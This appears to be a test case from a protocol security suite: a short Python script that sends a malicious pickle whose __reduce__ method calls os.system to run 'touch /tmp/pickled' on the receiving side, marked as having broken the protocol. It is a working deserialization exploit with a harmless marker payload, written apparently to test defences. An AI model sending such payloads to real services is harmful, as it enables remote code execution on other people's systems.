# outcome: broke_protocol
# It sends a pickle that runs a program where it is loaded.
import os
import pickle

from attempts import frame, wire


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pickled",)


def attack():
    os.write(wire(), frame(pickle.dumps(Bomb())))
